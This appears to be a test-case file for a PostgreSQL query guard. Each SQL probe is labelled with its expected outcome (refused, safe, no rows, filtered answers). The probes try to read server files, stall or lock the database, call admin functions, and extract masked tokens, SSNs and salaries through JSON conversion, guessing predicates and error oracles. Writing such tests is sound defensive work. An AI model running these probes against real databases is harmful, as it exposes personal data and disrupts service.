SELECT concat(VARIADIC ARRAY[pg_read_file('PG_VERSION')])

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT jsonb_build_object('a', pg_sleep(1))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT substring('abc' FROM length(pg_sleep(1)::text))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT position('a' IN pg_read_file('PG_VERSION'))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT overlay('abc' PLACING pg_read_file('PG_VERSION') FROM 1)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT trim(BOTH pg_read_file('PG_VERSION') FROM 'a')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_read_file('PG_VERSION') COLLATE "C"

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT now() AT TIME ZONE current_setting('timezone')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT id FROM products FETCH FIRST (SELECT length(pg_sleep(1)::text)) ROWS ONLY

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT id FROM products OFFSET length(pg_sleep(1)::text)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_advisory_lock(id) FROM products

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_advisory_xact_lock(1, 2)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_try_advisory_lock_shared(1)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_advisory_unlock_all()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_log_backend_memory_contexts(1)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_promote()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_rotate_logfile()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_switch_wal()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_create_restore_point('x')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_create_physical_replication_slot('x')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_start_backup('x')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_stat_reset()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_stat_reset_single_table_counters(1)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_wal_replay_pause()

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_import_system_collations('public')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT current_setting('is_superuser') || name FROM products

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT set_config('search_path', 'hr', false)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE set_config('statement_timeout', '0', false) = '0'

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT current_query()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT inet_client_addr(), inet_server_port()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_postmaster_start_time()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_conf_load_time()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_is_in_recovery()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_my_temp_schema()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT current_schemas(true)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_functiondef(1)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_constraintdef(oid) FROM products

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_userbyid(10)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_serial_sequence('customers', 'id')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_indexdef(1)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_expr('x', 1)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_get_keywords()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT * FROM pg_get_keywords()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT has_column_privilege('customers', 'token', 'select')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT has_schema_privilege('hr', 'usage')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT has_database_privilege('postgres', 'connect')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_has_role('postgres', 'member')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT row_security_active('customers')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT to_regproc('spy')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT to_regrole('postgres')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT to_regnamespace('hr')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT to_regtype('order_status')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT format_type(25, 1)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_typeof(token) FROM customers

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_column_size(name), pg_column_compression(name) FROM customers

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_table_size('credentials')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_total_relation_size('credentials')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_database_size('postgres')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_relation_filepath('credentials')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_partition_root('events_2025')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT * FROM pg_partition_tree('events')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_describe_object(1, 2, 3)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT * FROM pg_identify_object(1259, 1, 0)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_stat_get_live_tuples(1)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_stat_get_tuples_returned('credentials'::regclass)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_encoding_to_char(6), getdatabaseencoding()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT txid_current_snapshot(), pg_current_xact_id()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_current_wal_lsn()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_control_system()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT enum_range(NULL::order_status)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT enum_first(NULL::order_status)

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT shobj_description(1, 'pg_database')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT lastval()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT pg_sequence_last_value('customers_id_seq')

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT icu_unicode_version()

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT aclexplode(relacl) FROM pg_class

-- function that tells of the session or the catalogue | function-refused,not-supported,unknown-name
SELECT makeaclitem(1, 2, 'SELECT', false)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT p.pg_read_file FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT (p).pg_typeof FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT (products).spy FROM products

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT (p.name).pg_read_file FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT ('PG_VERSION').pg_read_file

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT ('PG_VERSION'::text).pg_read_file

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT (SELECT p).id FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT (p.*).name FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT customers.md5 FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT p.row_to_json FROM products p

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT c.to_jsonb FROM customers c

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT token(customers) FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT token(c) FROM customers AS c

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT name(c) FROM customers AS c

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT email(customers.*) FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id(c) FROM customers c

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_catalog.query_to_xml('select 1', true, true, '')

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT "pg_catalog"."pg_sleep"(1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT U&"pg\005fsleep"(1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(VARIADIC ARRAY[1])

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(seconds => 1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(ALL 1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(DISTINCT 1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(1) OVER ()

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(1) FILTER (WHERE true)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep() WITHIN GROUP (ORDER BY 1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT spy(c.*) FROM customers c

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT spy(name) FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id FROM customers WHERE public.spy(name)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id FROM customers WHERE spy(customers)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT public.upper(name) FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT hr.abs(1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT postgres.pg_catalog.abs(1)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT 1 OPERATOR(pg_catalog.+) length(pg_sleep(1)::text)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT name OPERATOR(public.=) 'x' FROM customers

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id FROM customers ORDER BY name USING OPERATOR(public.<)

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id FROM customers ORDER BY id USING >

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id = ANY ALL (ARRAY[1]) FROM products

-- function by another notation | function-refused,not-supported,unknown-name,syntax
SELECT id FROM products WHERE name LIKE ANY (SELECT pg_read_file('PG_VERSION'))

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'credentials'::regclass::oid::int

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT CAST('credentials' AS pg_catalog.regclass)

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT regclass 'credentials'

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'pg_sleep(double precision)'::regprocedure

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '+'::regoper, '+(int,int)'::regoperator

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'english'::regconfig, 'simple'::regdictionary

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 1259::regclass::text

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT ARRAY['credentials']::regclass[]

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '{credentials}'::regclass[]

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'paid'::public.order_status

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'x'::public.citext

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '(1,CANARY)'::customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT NULL::customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT (NULL::credentials).*

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT ROW(1, 'a')::credentials

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '(1,a,b)'::public.credentials

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT NULL::credentials IS NULL

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT jsonb_populate_record(NULL::customers, '{"token": "x"}')

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT * FROM jsonb_to_record('{"a": 1}') AS x(a regclass)

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 'x'::pg_ndistinct, 'x'::pg_mcv_list

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '1'::refcursor

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT 1::xid, 1::xid8, '1:1:'::pg_snapshot

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlparse(document '<x/>')

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT '<x/>' IS DOCUMENT

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlserialize(content name AS text) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlagg(xmlelement(name c, c.name)) FROM customers c

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlconcat('<a/>', name::xml) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlroot('<a/>'::xml, version '1.0')

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlpi(name php, 'x')

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlcomment(name) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xmlexists('//x' PASSING '<x/>')

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT xml_is_well_formed(name) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT * FROM customers, xmltable('/x' PASSING name::xml COLUMNS a text PATH '.') AS t

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_table FROM json_table(jsonb '[1]', '$[*]' COLUMNS (a int PATH '$'))

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_object('a': token) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_arrayagg(token) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_query(profile, '$.x' PASSING token AS t) FROM customers

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_value(payload, '$.secret') FROM events

-- type of the site or the catalogue | function-refused,not-supported,unknown-name,syntax
SELECT json_exists(payload, '$.secret') FROM events

-- whole row under another form | safe
SELECT ROW(c.*) FROM customers c

-- whole row under another form | safe
SELECT ROW(c.*)::text FROM customers c

-- whole row under another form | safe
SELECT (ROW(c.*)).f13 FROM customers c

-- whole row under another form | safe
SELECT ARRAY[c] FROM customers c

-- whole row under another form | safe
SELECT array_agg(c) FROM customers c

-- whole row under another form | safe
SELECT array_agg(c)::text FROM customers c

-- whole row under another form | safe
SELECT unnest(array_agg(c)) FROM customers c

-- whole row under another form | safe
SELECT string_agg(c::text, ',') FROM customers c

-- whole row under another form | safe
SELECT concat(c) FROM customers c

-- whole row under another form | safe
SELECT concat_ws(',', c.*) FROM customers c

-- whole row under another form | safe
SELECT format('%s', c) FROM customers c

-- whole row under another form | safe
SELECT c IS NULL, c IS NOT NULL, c = c FROM customers c

-- whole row under another form | safe
SELECT c < c2 FROM customers c, customers c2 WHERE c.id = 1 LIMIT 3

-- whole row under another form | safe
SELECT coalesce(c, NULL) FROM customers c

-- whole row under another form | safe
SELECT CASE WHEN true THEN c END FROM customers c

-- whole row under another form | safe
SELECT nullif(c, NULL) FROM customers c

-- whole row under another form | safe
SELECT greatest(c, c) FROM customers c

-- whole row under another form | safe
SELECT max(c) FROM customers c

-- whole row under another form | safe
SELECT lag(c) OVER (ORDER BY c.id) FROM customers c

-- whole row under another form | safe
SELECT first_value(c) OVER () FROM customers c

-- whole row under another form | safe
SELECT jsonb_build_array(c) FROM customers c

-- whole row under another form | safe
SELECT jsonb_object_agg(c.id, c) FROM customers c

-- whole row under another form | safe
SELECT json_agg(c) -> 0 ->> 'token' FROM customers c

-- whole row under another form | safe
SELECT to_jsonb(c) -> 'token', to_jsonb(c) #>> '{token}', to_jsonb(c) ? 'token' FROM customers c

-- whole row under another form | safe
SELECT jsonb_path_query(to_jsonb(c), '$.token') FROM customers c

-- whole row under another form | safe
SELECT x.key FROM customers c, jsonb_each(to_jsonb(c)) AS x WHERE x.key NOT IN ('id', 'name') AND c.id = 1

-- whole row under another form | safe
SELECT json_object_keys(row_to_json(o)) FROM "Odd Table" o

-- whole row under another form | safe
SELECT row_to_json(t) FROM (SELECT * FROM customers) AS t

-- whole row under another form | safe
SELECT row_to_json(ROW(token)) FROM customers

-- whole row under another form | safe
SELECT to_jsonb(array_agg(c)) FROM customers c

-- whole row under another form | safe
SELECT jsonb_agg(e) FROM events e

-- whole row under another form | safe
SELECT json_agg(p) FROM payments p WHERE p.id < 30

-- whole row under another form | safe
SELECT to_jsonb(v) FROM vehicles v

-- whole row under another form | safe
SELECT json_agg(t.*) FROM tickets t

-- whole row under another form | safe
SELECT DISTINCT c FROM customers c

-- whole row under another form | safe
SELECT c FROM customers c GROUP BY c

-- whole row under another form | safe
SELECT c.id FROM customers c ORDER BY c

-- whole row under another form | safe
SELECT c.id FROM customers c WHERE c IN (SELECT d FROM customers d)

-- whole row under another form | safe
SELECT c.id FROM customers c JOIN customers d ON c = d

-- whole row under another form | safe
SELECT (SELECT to_jsonb(d) FROM customers d WHERE d.id = c.id) ->> 'token' FROM customers c

-- whole row under another form | safe
SELECT x.c ->> 'token' FROM (SELECT to_jsonb(c) AS c FROM customers c) AS x

-- whole row under another form | safe
WITH c AS (SELECT * FROM customers) SELECT to_jsonb(c) ->> 'token', to_jsonb(c) ->> 'name' FROM c

-- whole row under another form | safe
SELECT ts_headline('english', to_jsonb(c), to_tsquery('canary')) FROM customers c

-- whole row under another form | safe
SELECT jsonb_to_tsvector('english', to_jsonb(c), '"all"') FROM customers c

-- whole row under another form | safe
SELECT ctid, to_jsonb(c) ->> 'ctid' FROM customers c

-- masked column through functions of its engine | safe
SELECT convert_to(name, 'UTF8'), convert_from(convert_to(phone, 'UTF8'), 'UTF8'), encode(name::bytea, 'escape') FROM customers

-- masked column through functions of its engine | safe
SELECT decode(ssn, 'hex'), get_byte(convert_to(name, 'UTF8'), 0), get_bit(convert_to(name, 'UTF8'), 9) FROM customers

-- masked column through functions of its engine | safe
SELECT ascii(substr(name, 5, 1)), chr(ascii(name)), unistr(name) FROM customers

-- masked column through functions of its engine | safe
SELECT translate(name, '•', ''), initcap(name), reverse(phone), rpad(name, 60, '*'), split_part(name, ' ', 2) FROM customers

-- masked column through functions of its engine | safe
SELECT string_to_table(name, NULL) FROM customers

-- masked column through functions of its engine | safe
SELECT regexp_substr(name, 'C.*'), regexp_count(name, 'CANARY'), regexp_instr(name, 'CANARY'), regexp_like(name, 'CANARY') FROM customers

-- masked column through functions of its engine | safe
SELECT regexp_split_to_array(phone, ''), (regexp_match(name, '(.*)'))[1] FROM customers

-- masked column through functions of its engine | safe
SELECT substring(name FROM '#"%#"' FOR '#'), substring(name SIMILAR '%#"C%#"%' ESCAPE '#') FROM customers

-- masked column through functions of its engine | safe
SELECT quote_ident(name), quote_nullable(phone), parse_ident('"' || replace(name, '"', '') || '"') FROM customers

-- masked column through functions of its engine | safe
SELECT to_tsquery('simple', quote_literal(name)), phraseto_tsquery(name), websearch_to_tsquery(phone) FROM customers

-- masked column through functions of its engine | safe
SELECT tsvector_to_array(to_tsvector('simple', name)), numnode(plainto_tsquery(name)), strip(to_tsvector(phone)) FROM customers

-- masked column through functions of its engine | safe
SELECT to_jsonb(name) #>> '{}', json_build_array(name, phone, ssn)::text, jsonb_set('{}', '{n}', to_jsonb(name)) FROM customers

-- masked column through functions of its engine | safe
SELECT jsonb_path_query_first(jsonb_build_object('n', name), '$.n ? (@ like_regex "CANARY")') FROM customers

-- masked column through functions of its engine | safe
SELECT jsonb_pretty(payload), jsonb_typeof(payload), payload || '{"a": 1}', payload - 'secret', payload #> '{secret}' FROM events

-- masked column through functions of its engine | safe
SELECT payload @> '{"secret": "CANARYpayload1"}', payload ? 'secret', payload @? '$.secret' FROM events

-- masked column through functions of its engine | safe
SELECT jsonb_agg(payload), jsonb_object_agg(id, payload) FROM events

-- masked column through functions of its engine | safe
SELECT array_to_string(array_agg(phone ORDER BY id), ','), array_position(ARRAY[name], 'x'), ARRAY[name] || ARRAY[phone] FROM customers GROUP BY name, phone

-- masked column through functions of its engine | safe
SELECT xs[1] FROM (SELECT array_agg(name ORDER BY id) AS xs FROM customers) AS t

-- masked column through functions of its engine | safe
SELECT s.x FROM customers c CROSS JOIN LATERAL (SELECT c.name || c.phone AS x) AS s

-- masked column through functions of its engine | safe
SELECT s.x FROM customers c, unnest(ARRAY[c.name, c.phone, c.email::text]) AS s(x)

-- masked column through functions of its engine | safe
SELECT s FROM customers c, regexp_split_to_table(c.name, '') AS s

-- masked column through functions of its engine | safe
SELECT s FROM customers c, generate_series(1, length(c.name)) AS s

-- masked column through functions of its engine | safe
SELECT age(birth_date), extract(day FROM birth_date), date_trunc('day', birth_date), birth_date + 0, birth_date::timestamp, extract(doy FROM birth_date) FROM customers

-- masked column through functions of its engine | safe
SELECT daterange(birth_date, NULL), birth_date - date '1800-01-01', to_char(birth_date, 'DDD') FROM customers

-- masked column through functions of its engine | safe
SELECT int4range(salary, NULL), salary::bit(32), to_hex(salary), salary::text::int, salary::numeric(20, 4), salary::money FROM employees

-- masked column through functions of its engine | safe
SELECT corr(salary, id), regr_slope(salary, id), stddev(salary), var_pop(salary), bit_xor(salary) FROM employees

-- masked column through functions of its engine | safe
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY salary), percentile_disc(ARRAY[0.1, 0.9]) WITHIN GROUP (ORDER BY salary) FROM employees

-- masked column through functions of its engine | safe
SELECT rank(7000200) WITHIN GROUP (ORDER BY salary), cume_dist(7000200) WITHIN GROUP (ORDER BY salary) FROM employees

-- masked column through functions of its engine | safe
SELECT max(salary) - min(salary), count(DISTINCT salary % 1000), width_bucket(max(salary), 7000000, 7001000, 100) FROM employees

-- masked column through functions of its engine | safe
SELECT region, name, count(*) FROM customers GROUP BY GROUPING SETS ((region), (name), (region, name))

-- masked column through functions of its engine | safe
SELECT DISTINCT ON (name) name, phone FROM customers ORDER BY name, phone

-- masked column through functions of its engine | safe
SELECT name FROM customers ORDER BY name COLLATE "C" DESC NULLS LAST FETCH FIRST 3 ROWS WITH TIES

-- masked column through functions of its engine | safe
SELECT 'a' < name, name ~~ '%CANARY%', name !~~ 'A%', name ~* 'canary', name ^@ 'Ada C', email ~~* '%CANARY%' FROM customers

-- masked column through functions of its engine | safe
SELECT email::text, email || '', lower(email::text), email::varchar(5), split_part(email::text, '@', 1) FROM customers

-- masked column through functions of its engine | safe
SELECT card_no::text, coalesce(card_no, 'none'), card_no || '', length(card_no) FROM payments

-- masked column through functions of its engine | safe
SELECT count(*) FILTER (WHERE p.card_no LIKE '4111%') OVER () FROM payments p

-- masked column through functions of its engine | safe
SELECT min(birth_date) FILTER (WHERE id = 1), max(ssn) FILTER (WHERE id = 1), array_agg(phone) FILTER (WHERE id = 1) FROM customers

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name ^@ 'Ada C'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name SIMILAR TO '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE regexp_like(name, 'CANARY')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name LIKE ANY (ARRAY['%CANARYname1 %', '%CANARYname2 %'])

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE NOT name <> ALL (SELECT 'Ada CANARYname' || g || ' Lovelace' FROM generate_series(1, 300) AS g)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE to_tsvector('simple', name) @@ to_tsquery('simple', 'canaryname1')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE md5(name) = md5('Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE jsonb_build_object('n', name) @> '{"n": "Ada CANARYname1 Lovelace"}'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ARRAY[name] && ARRAY['Ada CANARYname1 Lovelace']

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ROW(name, id) = ROW('Ada CANARYname1 Lovelace', 1)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE (name, id) IN (VALUES ('Ada CANARYname1 Lovelace', 1))

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IS NOT DISTINCT FROM 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE extract(day FROM birth_date) <> 1

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date <> date_trunc('year', birth_date)::date

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date BETWEEN '1800-02-01' AND '1800-02-28'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date <@ daterange('1801-01-02', '1801-12-31')

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary::text LIKE '%11'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary <@ int4range(7000001, 7000999)

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary & 1 = 1

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload IS NOT NULL

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload @> '{"secret": "CANARYpayload1"}' OR payload ? 'secret' OR payload @? '$.secret'

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload::text LIKE '%CANARY%' OR jsonb_typeof(payload) = 'object'

-- guessing behind the mask | no-rows
SELECT e.id FROM events e, jsonb_each_text(e.payload) AS x WHERE x.value LIKE 'CANARY%'

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c CROSS JOIN LATERAL (SELECT 1 WHERE c.name LIKE '%CANARY%') AS l

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c JOIN LATERAL unnest(string_to_array(c.name, ' ')) AS w ON w LIKE 'CANARY%'

-- guessing behind the mask | no-rows
SELECT count(*) FILTER (WHERE phone LIKE '+49%') FROM customers

-- guessing behind the mask | no-rows
SELECT bool_or(name LIKE '%CANARY%')::int FROM customers

-- guessing behind the mask | no-rows
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY salary) - 7000000 FROM employees

-- guessing behind the mask | no-rows
SELECT city FROM customers GROUP BY city HAVING string_agg(name, '') LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT DISTINCT ON (city) 0 FROM customers WHERE name LIKE '%CANARY%' ORDER BY city, name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE email OPERATOR(pg_catalog.~~) '%canary%'

-- error about a value behind a mask | european-answers
SELECT count(*) FROM customers WHERE CASE WHEN name ~ 'CANARY' THEN ('x' || id)::int ELSE 1 END = 1

-- error about a value behind a mask | european-answers
SELECT count(*) FROM tickets WHERE (CASE WHEN body = '[hidden]' THEN '1' ELSE body END)::int = 1

-- error about a value behind a mask | european-answers
SELECT sum(ln(7000001 - salary)) > 0 FROM employees

-- error about a value behind a mask | european-answers
SELECT count(sqrt(7000000 - salary)) FROM employees

-- error about a value behind a mask | european-answers
SELECT max(repeat('x', CASE WHEN length(name) > 20 THEN 2000000000 ELSE 1 END)) FROM customers

-- error about a value behind a mask | european-answers
SELECT count(*) FROM events WHERE payload IS NULL OR (payload ->> 'secret')::int = 1

-- error about a value behind a mask | european-answers
SELECT count(*) FROM customers WHERE to_date(CASE WHEN birth_date = date_trunc('year', birth_date) THEN '2026-01-01' ELSE 'x' END, 'YYYY-MM-DD') IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE (CASE WHEN region = 'EU' THEN '1' ELSE 'x' END)::int = 1

-- error about a row outside the filter | european-answers
